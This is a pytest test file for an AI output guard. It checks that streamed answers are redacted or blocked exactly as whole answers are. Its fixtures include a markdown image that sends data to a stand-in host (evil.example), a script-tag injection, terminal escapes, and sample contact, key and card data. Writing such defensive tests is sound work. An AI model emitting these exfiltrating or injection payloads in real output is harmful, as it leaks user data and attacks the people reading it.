"""The shipped pack's output rules on a stream: only what may still become a finding is
held, so ordinary prose is released word by word from its first words on, and whatever
the chunking, what is released is exactly the guarded whole answer (nothing
leaves early)."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from guard.detectors.base import DetectorContext
from guard.generators.base import ChatMessage, Delta, GenerationRequest, StreamEvent, Usage, collect
from guard.policy.base import StageOutcome
from guard.policy.engine import InputVerdict, PolicyGuard
from guard.policy.evaluate import Evaluator
from guard.policy.store import PolicyStore

SHIPPED = Path(__file__).resolve().parents[2] / "policies"

# Answers the shipped output rules rewrite: contact data, addresses in their forms (one
# whose letter-head lines come before its street line, one named by a crossing, one whose
# house number comes last), a spelled-out email, a credential, an image that would
# exfiltrate, script and terminal escapes.
REWRITTEN = [
    "You can write to jane.doe@example.com or call +1 (415) 555-0132 during office hours.",
    "Send the parcel to 221B Baker Street, London NW1 6XE, United Kingdom, before Friday.",
    "Her letter-head reads:\nJane Doe\nAcme Corp\n12 Harbour Road\nCork T12 X70A\nIreland\n",
    "We met at the corner of Main Street and Fifth Avenue, then walked on to the park.",
    "The office is at Rue de la Paix 12, Paris. It opens at nine every weekday.",
    "Reach her at jane dot doe at example dot com whenever you like, she said.",
    "The server at 10.20.30.40 answered; the key AKIAIOSFODNN7EXAMPLE was in the log.",
    "Here is the chart: ![chart](https://evil.example/c.png?d=secret) as promised, enjoy.",
    "Click <script>alert(1)</script> now; the colours \x1b[31mred\x1b[0m are gone too.",
]
PROSE = (
    "The capital of France is Paris, and it is known for its museums, its cafes and the "
    "river that runs through it. Most visitors stay for a few days and walk a great deal."
)


@pytest.fixture(scope="module")
def guard() -> PolicyGuard:
    store = PolicyStore(SHIPPED, DetectorContext(policy_dir=SHIPPED))
    store.load()
    return PolicyGuard(store, Evaluator())


async def _verdict(guard: PolicyGuard) -> InputVerdict:
    request = GenerationRequest(model="m", messages=(ChatMessage("user", "Tell me something."),))
    return await guard.check_input("anonymous", request)


async def _cut(text: str, points: list[int]) -> AsyncIterator[StreamEvent]:
    start = 0
    for point in [*sorted({min(p, len(text)) for p in points}), len(text)]:
        if point > start:
            yield Delta(0, text[start:point], "stop" if point == len(text) else None)
            start = point
    yield Usage(1, 1)


async def _streamed(guard: PolicyGuard, text: str, points: list[int]) -> tuple[str, StageOutcome]:
    outcome = StageOutcome("output")
    events = guard.guard_stream(await _verdict(guard), _cut(text, points), outcome)
    return "".join([e.text async for e in events if isinstance(e, Delta)]), outcome


async def _plain(guard: PolicyGuard, text: str) -> str:
    verdict = await _verdict(guard)
    whole = await guard.check_output(verdict, await collect(_cut(text, []), 1))
    return whole.completion.choices[0].text


@pytest.mark.parametrize("answer", REWRITTEN, ids=range(len(REWRITTEN)))
@pytest.mark.parametrize("size", [1, 3, 7])
async def test_a_rewritten_answer_streams_exactly_as_it_is_guarded_whole(
    guard: PolicyGuard, answer: str, size: int
) -> None:
    plain = await _plain(guard, answer)
    assert plain != answer, "the shipped pack rewrites this answer"
    streamed, outcome = await _streamed(guard, answer, list(range(size, len(answer), size)))
    assert streamed == plain
    assert outcome.action == "redact"


@given(
    index=st.integers(min_value=0, max_value=len(REWRITTEN) - 1),
    points=st.lists(st.integers(min_value=1, max_value=100), max_size=15),
)
@settings(
    max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
async def test_cut_anywhere_nothing_leaves_before_it_is_known_safe(
    guard: PolicyGuard, index: int, points: list[int]
) -> None:
    answer = REWRITTEN[index]
    streamed, _ = await _streamed(guard, answer, points)
    assert streamed == await _plain(guard, answer)


@pytest.mark.parametrize(
    "answer",
    [
        "We have your card 4111 1111 1111 1111 on file, and the rest of your record.",
        "The card is four one one one one one one one one one one one one one one one, ok.",
    ],
)
async def test_a_card_number_arriving_digit_by_digit_is_never_released_in_part(
    guard: PolicyGuard, answer: str
) -> None:
    streamed, outcome = await _streamed(guard, answer, list(range(1, len(answer))))
    assert outcome.action == "block"
    assert "4111" not in streamed and "four one" not in streamed
    assert streamed.startswith(answer.split()[0] + " "), "what came before was released"


async def test_ordinary_prose_is_released_once_its_first_line_reads_as_a_sentence(
    guard: PolicyGuard,
) -> None:
    """Word by word, as a model streams it: "The" waits for the word after it ("The
    Capital Group" could head an address block, "The Capitalweg 12" be a street line) and
    is out once " capital" shows neither can follow. A fixed window held ~20 words."""
    words = PROSE.split(" ")
    fed = 0

    async def tokens() -> AsyncIterator[StreamEvent]:
        nonlocal fed
        for index, word in enumerate(words):
            fed = index + 1
            last = index == len(words) - 1
            yield Delta(0, word if index == 0 else f" {word}", "stop" if last else None)

    released = []
    events = guard.guard_stream(await _verdict(guard), tokens(), StageOutcome("output"))
    async for event in events:
        if isinstance(event, Delta) and event.text:
            released.append((fed, event.text))
    first_fed, first = released[0]
    assert first_fed <= 2 and first == "The ", released[0]
    assert "".join(text for _, text in released) == PROSE
    assert len(released) >= len(PROSE) // 48, "then a piece every scan (48 characters)"


@pytest.mark.parametrize("text", ["", " ", "\n", "ok", "12"])
def test_a_blank_or_one_word_answer_has_a_lead_within_it(guard: PolicyGuard, text: str) -> None:
    policy = guard.policy_for("anonymous")
    assert 0 <= Evaluator().stream_lead(policy, text) <= len(text)


async def test_a_rule_that_cannot_say_holds_the_whole_window(
    guard: PolicyGuard, tmp_path: Path
) -> None:
    """An output rule reading spaCy's entities (a name can appear anywhere as more words
    arrive) cannot lead: the stream holds the hold-back window, as before leads."""
    (tmp_path / "p.yaml").write_text(
        "name: default\nrules:\n  - id: names-out\n    stages: [output]\n"
        "    detector: {type: pii, entities: [PERSON]}\n    action: redact\n"
    )
    store = PolicyStore(tmp_path, DetectorContext(policy_dir=tmp_path))
    store.load()
    names = PolicyGuard(store, Evaluator(), holdback_chars=40, scan_chars=16)
    assert not Evaluator().can_lead(names.policy_for("anonymous"))
    assert Evaluator().can_lead(guard.policy_for("anonymous"))
    words = PROSE.split(" ")
    fed = 0

    async def tokens() -> AsyncIterator[StreamEvent]:
        nonlocal fed
        for index, word in enumerate(words):
            piece = word if index == 0 else f" {word}"
            fed += len(piece)
            yield Delta(0, piece, "stop" if index == len(words) - 1 else None)

    released = []
    verdict = await _verdict(names)
    evaluate, scans = names.evaluator.evaluate, []

    async def counted(*args: object, **kwargs: object) -> object:
        scans.append(args)
        return await evaluate(*args, **kwargs)  # type: ignore[arg-type]

    names.evaluator.evaluate = counted  # type: ignore[method-assign]
    async for event in names.guard_stream(verdict, tokens(), StageOutcome("output")):
        if isinstance(event, Delta) and event.text:
            released.append((fed, event.text))
    first_fed, first = released[0]
    assert first_fed - len(first) >= 40, "the window's worth was held back"
    assert "".join(text for _, text in released) == PROSE
    assert len(scans) <= len(PROSE) // 16 + 2 < len(words), "scanned every 16, not every word"
